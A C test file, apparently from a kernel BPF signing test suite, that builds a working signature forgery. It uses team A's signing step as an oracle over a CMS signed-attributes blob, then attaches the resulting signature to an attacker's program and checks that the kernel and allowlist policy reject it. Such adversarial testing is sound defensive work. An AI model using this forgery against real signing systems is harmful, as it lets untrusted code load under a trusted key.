@@ -1,0 +1,266 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * Second hostile review of the fix to issue 40's first review: the kernel
+ * records (fdinfo sig_key_sha256, audit sig-key-sha256=) only a trusted key
+ * that verified a SignerInfo's signature itself (pkcs7_trust.c,
+ * "sig == sinfo->sig"), and "key allow sha256:X" admits by that record.
+ * Property attacked: a program is recorded as X only if X's private key
+ * signed exactly the loaded bytes.
+ *
+ * Attacker: the signing oracle of the first review (attack_sig_key_chain_
+ * signing_oracle): whoever gets team A's signing step ("bpfsign sign FILE":
+ * detached CMS, no signed attributes) to sign one file of its choosing, once.
+ * It never holds A's key.  The first review's oracle made a certificate A
+ * issued, which the fix now records as no key.  Here the file is not a
+ * certificate but a CMS signed-attributes SET whose messageDigest is the
+ * SHA-256 of the attacker's program: BPF signatures may carry signed
+ * attributes (pkcs7_verify(), VERIFYING_BPF_SIGNATURE), the kernel then
+ * verifies the signature over 0x31 || attributes, and A's payload signature
+ * of that file is, byte for byte, the signature of a SignerInfo over the
+ * attacker's program.  It is A's own signature of "the signed data", so the
+ * fix's rule records A.  A's private key never saw the program's bytes, only
+ * a 107-byte DER blob that names their digest, which "bpfsign sign" signs
+ * without complaint.  The offline verifier agrees with the kernel (host:
+ * "bpfsign verify --ca keys-example/signing.crt" of the same construction
+ * says verified, key_sha256 A), so no tool flags it.
+ */
+#include <fcntl.h>
+#include <stdarg.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <sys/stat.h>
+#include <openssl/cms.h>
+#include <openssl/evp.h>
+#include <openssl/pem.h>
+#include <openssl/x509v3.h>
+#include <bpf/bpf.h>
+
+#include "fixture.h"
+#include "runner.h"
+#include "util.h"
+#include "sign.h"
+#include "signed.h"
+
+#define CLI		"/tests/bpfsign-policy"
+#define R2_POLICY	"/tmp/attack-r2-attrs.policy"
+
+static char out[65536];
+
+static int cli(const char *arg, ...)
+{
+	const char *argv[16] = { CLI };
+	int argc = 1;
+	va_list ap;
+
+	va_start(ap, arg);
+	for (; arg && argc < 15; arg = va_arg(ap, const char *))
+		argv[argc++] = arg;
+	va_end(ap);
+	argv[argc] = NULL;
+	return run_capture(argv, out, sizeof(out));
+}
+
+static X509 *read_cert(const char *name)
+{
+	unsigned char *der = NULL;
+	const unsigned char *p;
+	int len = cert_der(name, &der);
+	X509 *x;
+
+	if (len < 0)
+		return NULL;
+	p = der;
+	x = d2i_X509(NULL, &p, len);
+	OPENSSL_free(der);
+	return x;
+}
+
+static EVP_PKEY *read_key(const char *name)
+{
+	char path[128];
+	EVP_PKEY *key;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/tests/keys/%s.key", name);
+	f = fopen(path, "r");
+	key = f ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
+	if (f)
+		fclose(f);
+	return key;
+}
+
+/*
+ * The signed attributes of the CMS DER der as the kernel hashes them: the
+ * [0] IMPLICIT SET re-tagged 0x31.  OpenSSL sorts the SET OF, so the
+ * contentType attribute (30 18 ...) comes first.  Returns the length, or -1.
+ */
+static int attrs_as_set(const unsigned char *der, int len, unsigned char *set, int max)
+{
+	static const unsigned char ct[] = { 0x30, 0x18, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86,
+					    0xf7, 0x0d, 0x01, 0x09, 0x03 };
+	int i, n;
+
+	for (i = 2; i + (int)sizeof(ct) <= len; i++) {
+		if (memcmp(der + i, ct, sizeof(ct)) || der[i - 2] != 0xa0 || der[i - 1] >= 0x80)
+			continue;
+		n = der[i - 1];
+		if (i + n > len || n + 2 > max)
+			return -1;
+		set[0] = 0x31;
+		memcpy(set + 1, der + i - 1, n + 1);
+		return n + 2;
+	}
+	return -1;
+}
+
+/* The oracle: A's "bpfsign sign FILE" of file, its signature octets */
+static ASN1_OCTET_STRING *oracle_sign(const unsigned char *file, int len)
+{
+	ASN1_OCTET_STRING *sv = NULL;
+	CMS_ContentInfo *cms = NULL;
+	unsigned char *der = NULL;
+	const unsigned char *p;
+	int der_len;
+
+	der_len = cms_sign("signing", file, len, 0, &der);
+	p = der;
+	cms = der_len > 0 ? d2i_CMS_ContentInfo(NULL, &p, der_len) : NULL;
+	if (cms)
+		sv = ASN1_OCTET_STRING_dup(CMS_SignerInfo_get0_signature(
+			sk_CMS_SignerInfo_value(CMS_get0_SignerInfos(cms), 0)));
+	CMS_ContentInfo_free(cms);
+	OPENSSL_free(der);
+	return sv;
+}
+
+/*
+ * The attacker's CMS over payload: a SignerInfo with signed attributes,
+ * built with the attacker's own RSA key (team.key, in no keyring here), its
+ * identifier rewritten to team A's subjectKeyIdentifier and its signature
+ * replaced by the oracle's signature of the attributes.  *sig, its length.
+ */
+static int forge(const unsigned char *payload, size_t len, unsigned char **sig,
+		 unsigned char *file, int *file_len)
+{
+	unsigned int flags = CMS_BINARY | CMS_DETACHED | CMS_NOCERTS | CMS_PARTIAL |
+			     CMS_NOSMIMECAP | CMS_USE_KEYID;
+	X509 *a = read_cert("signing"), *t = read_cert("team");
+	EVP_PKEY *tkey = read_key("team");
+	BIO *in = BIO_new_mem_buf(payload, len);
+	CMS_ContentInfo *cms = CMS_sign(NULL, NULL, NULL, NULL, flags);
+	const ASN1_OCTET_STRING *askid = a ? X509_get0_subject_key_id(a) : NULL;
+	ASN1_OCTET_STRING *keyid = NULL, *sv = NULL;
+	unsigned char *der = NULL, again[256];
+	CMS_SignerInfo *si;
+	int der_len, ret = -1;
+
+	if (!cms || !t || !tkey || !askid || !in ||
+	    !CMS_add1_signer(cms, t, tkey, EVP_sha256(), flags) ||
+	    CMS_final(cms, in, NULL, flags) != 1)
+		goto out;
+	der_len = i2d_CMS_ContentInfo(cms, &der);
+	*file_len = der_len > 0 ? attrs_as_set(der, der_len, file, 256) : -1;
+	OPENSSL_free(der);
+	der = NULL;
+	if (*file_len < 0)
+		goto out;
+	/* the one file A signs: contentType, signingTime, messageDigest */
+	sv = oracle_sign(file, *file_len);
+	si = sk_CMS_SignerInfo_value(CMS_get0_SignerInfos(cms), 0);
+	if (!sv || !si || CMS_SignerInfo_get0_signer_id(si, &keyid, NULL, NULL) != 1 || !keyid)
+		goto out;
+	if (!ASN1_OCTET_STRING_set(keyid, ASN1_STRING_get0_data(askid), ASN1_STRING_length(askid)) ||
+	    !ASN1_OCTET_STRING_set(CMS_SignerInfo_get0_signature(si), ASN1_STRING_get0_data(sv),
+				   ASN1_STRING_length(sv)))
+		goto out;
+	der_len = i2d_CMS_ContentInfo(cms, &der);
+	/* the attributes re-encode to the very file A signed */
+	if (der_len <= 0 || attrs_as_set(der, der_len, again, sizeof(again)) != *file_len ||
+	    memcmp(again, file, *file_len))
+		goto out;
+	*sig = der;
+	der = NULL;
+	ret = der_len;
+out:
+	OPENSSL_free(der);
+	ASN1_OCTET_STRING_free(sv);
+	CMS_ContentInfo_free(cms);
+	BIO_free(in);
+	EVP_PKEY_free(tkey);
+	X509_free(a);
+	X509_free(t);
+	return ret;
+}
+
+/* The fixture load l, its signature forged through the attributes oracle */
+static bool forged_load(struct load *l, unsigned char *file, int *file_len)
+{
+	unsigned char payload[sizeof(((struct load *)0)->insns) + META_SZ];
+	size_t len;
+	int i;
+
+	if (!make_load(l, 1, "signing", BUILTIN))
+		return false;
+	len = l->cnt * sizeof(l->insns[0]);
+	memcpy(payload, l->insns, len);
+	for (i = 0; i < META_SZ; i++)
+		payload[len++] = fixture_meta(0, i);
+	/* a program of the attacker's: A never signs these bytes */
+	free(l->sig);
+	l->sig = NULL;
+	l->sig_len = forge(payload, len, &l->sig, file, file_len);
+	return ASSERT_GE(l->sig_len, 1, "the attacker's CMS, A's oracle signature of its attributes");
+}
+
+/*
+ * The kernel: a program A's key never signed must not be recorded as A's;
+ * then the policy: "keyring allow builtin / key allow sha256:A" must refuse
+ * it.  FAILS on the fixed kernel: the load verifies against the builtin
+ * keyring, sig_key_sha256 is A's, and keyring-allowlist admits it.
+ */
+TEST_EXPLICIT(attack_round2_sig_key_attrs_oracle)
+{
+	char a_sha[65], v[160], text[512];
+	unsigned char file[256];
+	int file_len = -1, fd;
+	struct load l = {};
+	struct stat st;
+
+	if (!ASSERT_TRUE(cert_key_sha256("signing", a_sha), "signing.crt digest"))
+		return;
+	if (!forged_load(&l, file, &file_len))
+		goto out;
+	printf("  # A signed one %d-byte file (first byte %02x), never the %zu program bytes\n",
+	       file_len, file[0], l.cnt * sizeof(l.insns[0]) + META_SZ);
+	fd = sys_prog_load(&l);
+	if (fd < 0) {
+		printf("  # the forged load was refused (errno %d): held\n", errno);
+		goto out;
+	}
+	prog_fdinfo(fd, "sig_key_sha256", v, sizeof(v));
+	printf("  # forged load: sig_key_sha256 %s (A %s), builtin %lld\n", v, a_sha,
+	       (long long)prog_fdinfo_num(fd, "sig_key_builtin"));
+	/* pkcs7_get_trusted_key(): A's key must have signed the program's bytes */
+	ASSERT_TRUE(strcmp(v, a_sha), "fdinfo does not say team A signed the attacker's program");
+	close(fd);
+
+	if (!stat("/sys/fs/bpf/bpfsign/keyring-allowlist", &st))
+		cli("unload", "keyring-allowlist", NULL);
+	snprintf(text, sizeof(text), "keyring allow builtin\nkey allow sha256:%s\n", a_sha);
+	fd = open(R2_POLICY, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+	if (!ASSERT_GE(fd, 0, "write the policy") || write(fd, text, strlen(text)) < 0)
+		goto out;
+	close(fd);
+	if (!ASSERT_EQ(cli("load", "--policy", R2_POLICY, "keyring-allowlist", NULL), 0,
+		       "load keyring-allowlist: builtin, key allow sha256:A"))
+		goto out;
+	fd = sys_prog_load(&l);
+	/* keyring_allowlist key_allowed(): admits by the recorded digest only */
+	ASSERT_ERR(fd < 0 ? -1 : fd, EPERM, "the oracle's program is not admitted as A's");
+	if (fd >= 0)
+		close(fd);
+	cli("unload", "keyring-allowlist", NULL);
+out:
+	free_load(&l);
+}
